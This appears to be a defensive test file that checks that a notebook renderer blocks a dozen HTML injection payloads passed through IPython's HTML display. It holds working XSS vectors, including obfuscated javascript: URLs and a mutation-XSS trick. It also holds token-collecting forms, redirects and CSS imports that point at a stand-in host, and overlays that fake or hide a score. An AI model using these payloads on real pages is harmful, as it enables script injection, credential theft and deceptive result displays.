"""Show HTML with script, in a dozen ways.

threat: host
expect: nothing
"""
# %% first
from IPython.display import HTML, display

for harm in (
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg onload='window.ran = 1'>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<a href='java&#10;script:window.ran=1'>a bonus</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.ran = 1'>",
    "<form action='https://collect.example/'><input name=token><button formaction='javascript:ran=1'>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://collect.example/'>",
    "<base href='https://collect.example/'>",
    "<div style='position:fixed;inset:0;background:white'>Score: 50/50</div>",
    "<style>@import 'https://collect.example/a.css'; .score { display: none }</style>",
    "<object data='data:text/html,<script>ran=1</script>'></object>",
):
    display(HTML(harm))
